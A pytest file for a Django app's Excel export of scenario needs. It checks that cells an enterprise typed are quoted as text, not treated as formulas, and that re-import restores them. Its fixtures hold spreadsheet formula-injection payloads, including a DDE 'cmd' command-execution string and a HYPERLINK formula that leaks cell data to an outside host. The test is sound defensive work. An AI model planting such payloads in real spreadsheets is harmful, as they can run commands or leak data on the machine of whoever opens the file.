"""The scenario list's Excel export: what an enterprise wrote arrives as text, never as a formula, and imports back."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from aiplus.scenarios import excel
from aiplus.scenarios.models import Need
from aiplus.scenarios.testing import published_need

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://x.invalid/?"&A1,"详情")'
PROBLEM = "+cmd|' /C calc'!A0"
DATA = "@SUM(A1:A9)"
KPI = {"name": "-2+3", "target_value": "99", "unit": "%"}


def test_hostile_cells_are_quoted_text_numbers_stay_numbers_and_import_gives_them_back(world, client):
    need = published_need(world, title=TITLE, problem=PROBLEM, data_offered=DATA, kpis=[KPI])
    client.force_login(world.user("official"))
    response = client.get(f"/scenarios/lists/{need.scenario_list_id}/export.xlsx")
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment;")
    row = next(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))
    assert [row[0].value, row[2].value, row[3].value] == ["'" + TITLE, "'" + PROBLEM, "'" + DATA]
    assert row[8].value == "'-2+3:99:%"
    assert all(cell.data_type != "f" for cell in row)
    assert (row[4].value, row[4].data_type, row[5].value, row[5].data_type) == (300000, "n", 800000, "n")

    excel.import_needs(acting_user=world.user("enterprise_member", "shenzhen"), file=io.BytesIO(response.content),
                       organisation_id=world.orgs["shenzhen:enterprise"].pk, jurisdiction="shenzhen")
    created = list(Need.objects.filter(owner=world.orgs["shenzhen:enterprise"]))
    assert [(n.title, n.problem, n.data_offered) for n in created] == [(TITLE, PROBLEM, DATA)]
    assert [k.name for k in created[0].kpis.all()] == ["-2+3"]
